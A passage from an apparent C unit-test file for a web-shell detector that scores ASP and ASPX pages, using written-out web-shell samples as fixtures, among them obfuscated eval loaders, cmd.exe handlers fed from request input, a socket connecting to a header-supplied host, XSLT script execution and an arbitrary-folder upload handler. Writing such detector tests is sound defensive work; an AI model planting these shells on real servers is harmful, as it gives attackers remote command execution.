         "<%\nFunction Un(t)\n  Dim i, r\n  For i = 1 To Len(t)\n    r = r & Chr(Asc(Mid(t, i, 1)) - 1)\n"
         "  Next\n  Un = r\nEnd Function\nExecuteGlobal Un(\"fwbm!sfrvftu)#y#*\")\n%>",
         XS_WSK_EMBEDDED, 80},
        /* eval kept under another name */
        {".aspx",
         "<%@ Page Language=\"JScript\" %><% var o = {'run': eval}; o.run(unescape("
         "Request.Form[\"x\"])); %>",
         XS_WSK_EVAL, 70},
        /* commands typed into a started shell */
        {".ashx",
         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : "
         "IHttpHandler { public void ProcessRequest(HttpContext c) { var p = new "
         "System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
         "p.StartInfo.RedirectStandardInput = true; p.Start(); "
         "p.StandardInput.WriteLine(c.Request.Form[\"k\"]); } public bool IsReusable { get { "
         "return false; } } }",
         XS_WSK_PROCESS, 80},
        /* the evaluator's "unsafe" mode built from variables */
        {".aspx",
         "<script runat=\"server\" language=\"JScript\">function run(x) { var m1 = \"un\"; var m2 "
         "= m1 + \"sa\" + \"fe\"; return eval(x, m2); }</script><% run(unknown()); %>",
         XS_WSK_EVAL, 80},
        /* a tunnel to the host and port the headers name */
        {".aspx",
         "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs "
         "e) { var ip = System.Net.IPAddress.Parse(Request.Headers[\"X-H\"]); int port = "
         "int.Parse(Request.Headers[\"X-P\"]); var sock = new System.Net.Sockets.Socket("
         "System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, "
         "System.Net.Sockets.ProtocolType.Tcp); sock.Connect(new System.Net.IPEndPoint(ip, port)); }"
         "</script>",
         XS_WSK_SOCKET, 80},
        /* a stylesheet whose script runs commands */
        {".asp",
         "<%\nSet x = Server.CreateObject(\"MSXML2.DOMDocument\")\nx.loadXML \"<r>whoami</r>\"\n"
         "Set t = Server.CreateObject(\"MSXML2.DOMDocument\")\nt.loadXML \"<xsl:stylesheet "
         "xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script language='JScript' "
         "implements-prefix='u'>function f(c){ return new ActiveXObject('WScript.Shell')"
         ".Exec(c).StdOut.ReadAll(); }</msxsl:script></xsl:stylesheet>\"\n"
         "Response.Write x.transformNode(t)\n%>",
         XS_WSK_XSLT, 80},
        /* a Script Encoder block (not decoded): suspicious on its own */
        {".asp", "<%@ Language=\"VBScript.Encode\" %>\n<%#@~^CAAAAA==x7Z9@*Ve6x4CAAA==^#~@%>",
         XS_WSK_EMBEDDED, 50},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        xs_wsreport r;
        assert_true(analyse(cases[i].page, strlen(cases[i].page), cases[i].ext, &r));
        if (r.flow[cases[i].kind].score < cases[i].min)
            fprintf(stderr, "technique %zu: score %d, file %d (%s)\n", i,
                    r.flow[cases[i].kind].score, r.score, r.kinds);
        assert_true(r.flow[cases[i].kind].score >= cases[i].min);
        /* writes and uploads alone are suspicious outside Exchange's folders */
        assert_true(r.score >= (cases[i].min < XS_WS_SCORE_SUSPECT ? cases[i].min
                                                                   : XS_WS_SCORE_SUSPECT));
    }
    /* evasions a review found: a call chained after the sink, an identity function named like
     * a sanitiser, a statement padded past XS_SCRIPT_MAX_STMT, an unterminated VB string */
    {
        static const char chained[] = "<%\nOn Error Resume Next\nSet x = CreateObject(\"WScript.Shell\")"
                                      ".Exec(Request(\"c\")).Chr(65)\n%>";
        xs_wsreport q;
        assert_true(analyse(chained, sizeof chained - 1, ".asp", &q));
        assert_int_equal(q.flow[XS_WSK_PROCESS].score, 100);
        static const char shadow[] =
            "<%@ Page Language=\"C#\" %><script runat=\"server\">string Encode(string s) { return "
            "s; } void Page_Load(object o, EventArgs e) { System.Diagnostics.Process.Start("
            "\"cmd.exe\", Encode(Request[\"c\"])); }</script>";
        assert_true(analyse(shadow, sizeof shadow - 1, ".aspx", &q));
        assert_int_equal(q.flow[XS_WSK_PROCESS].score, 100);
        static const char line[] = "<%\nx = \"open\nSet o = CreateObject(\"WScript.Shell\")\n"
                                   "o.Run Request(\"c\")\n%>";
        assert_true(analyse(line, sizeof line - 1, ".asp", &q));
        assert_string_equal(q.flow[XS_WSK_PROCESS].sink, "o.Run (line 4)");
    }
    /* UTF-16 pages, both byte orders, with and without a BOM */
    {
        static const char text[] = "<%@ Page Language=\"JScript\"%><%eval(Request.Item[\"k\"]);%>";
        for (int form = 0; form < 4; form++) {
            char wide[256];
            size_t o = 0;
            bool be = form & 1, bom = form & 2;
            if (bom) {
                wide[o++] = be ? (char)0xFE : (char)0xFF;
                wide[o++] = be ? (char)0xFF : (char)0xFE;
            }
            for (size_t i = 0; i < sizeof text - 1; i++) {
                wide[o++] = be ? 0 : text[i];
                wide[o++] = be ? text[i] : 0;
            }
            xs_wsreport q;
            assert_true(analyse(wide, o, ".aspx", &q));
            assert_int_equal(q.flow[XS_WSK_EVAL].score, 100);
        }
    }
    /* a UTF-7 page */
    char body[1024], page[1200];
    utf7("<% Execute(Request(\"x\")) %>", body, sizeof body);
    snprintf(page, sizeof page, "<%%@ CodePage=65000 %%>\n%s\n", body);
    xs_wsreport r;
    assert_true(analyse(page, strlen(page), ".asp", &r));
    assert_int_equal(r.flow[XS_WSK_EVAL].score, 100);
    assert_non_null(strstr(r.signals, "UTF-7"));
}

/* An upload where the client chooses the folder: a careless application or an upload shell.
 * Suspicious (79) by itself, a web shell in a folder Exchange owns or with a sign of intent. */
static void test_write_only_cap(void **st)
{
    (void)st;
    static const char page[] =
        "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nusing System.Web;\npublic class U : "
        "IHttpHandler { public void ProcessRequest(HttpContext c) { var f = c.Request.Files[0]; "
        "f.SaveAs(c.Server.MapPath(c.Request[\"folder\"]) + \"\\\\\" + f.FileName); } public "
        "bool IsReusable { get { return false; } } }";
    xs_script sc;
    xs_wsreport r;
    assert_true(xs_script_read(page, sizeof page - 1, ".ashx", &sc));
    assert_true(xs_scriptflow(&sc, 0, &r));
    assert_int_equal(r.flow[XS_WSK_UPLOAD].score, 85);
    assert_int_equal(r.score, XS_WS_SCORE_EXPLOIT - 1);
    assert_true(xs_scriptflow(&sc, XS_WSH_EXCHANGE, &r));
    assert_int_equal(r.score, 85);
    assert_true(xs_scriptflow(&sc, XS_WSH_KNOWN_NAME, &r));
    assert_int_equal(r.score, 95);
    xs_script_free(&sc);
}

/* Code-behind sources: the request and controls declared in code. */
static void test_code_behind(void **st)
{
    (void)st;
    static const char cs[] =
        "using System;\npublic partial class P : System.Web.UI.Page {\n"
        "  protected System.Web.UI.WebControls.TextBox tb;\n"
        "  protected void Go(object s, EventArgs e) {\n"
        "    var p = new System.Diagnostics.Process();\n"
        "    p.StartInfo.FileName = \"cmd.exe\";\n"
        "    p.StartInfo.Arguments = \"/c \" + tb.Text;\n    p.Start();\n  }\n}\n";
    static const char vb[] =
        "Partial Class P\n  Inherits System.Web.UI.Page\n"
        "  Protected WithEvents box As System.Web.UI.WebControls.TextBox\n"
        "  Protected Sub Run(sender As Object, e As EventArgs)\n"
        "    Dim sh = CreateObject(\"WScript.Shell\")\n    sh.Run(\"cmd /c \" & box.Text)\n"
        "  End Sub\nEnd Class\n";
    static const char benign[] =
        "using System;\npublic partial class Login : System.Web.UI.Page {\n"
        "  protected System.Web.UI.WebControls.TextBox user, pass;\n"
        "  protected void Go(object s, EventArgs e) {\n"
        "    if (System.Web.Security.Membership.ValidateUser(user.Text, pass.Text))\n"
        "      Response.Redirect(\"~/Default.aspx\");\n"
        "    System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/login.log\"), user.Text);\n"
        "  }\n}\n";
    xs_wsreport r;
    assert_true(analyse(cs, sizeof cs - 1, ".cs", &r));
    assert_string_equal(r.flow[XS_WSK_PROCESS].source, "server control tb.Text (line 7)");
    assert_string_equal(r.flow[XS_WSK_PROCESS].sink, "StartInfo.Arguments (line 7)");
    assert_true(analyse(vb, sizeof vb - 1, ".vb", &r));
    assert_string_equal(r.flow[XS_WSK_PROCESS].source, "server control box.Text (line 6)");
    assert_string_equal(r.flow[XS_WSK_PROCESS].sink, "sh.Run (line 6)");
    assert_true(analyse(benign, sizeof benign - 1, ".cs", &r));
    assert_int_equal(r.score, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_generated_shells),
        cmocka_unit_test(test_explanation),
        cmocka_unit_test(test_obfuscated),
        cmocka_unit_test(test_benign_pages),
        cmocka_unit_test(test_code_behind),
        cmocka_unit_test(test_techniques),
        cmocka_unit_test(test_write_only_cap),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
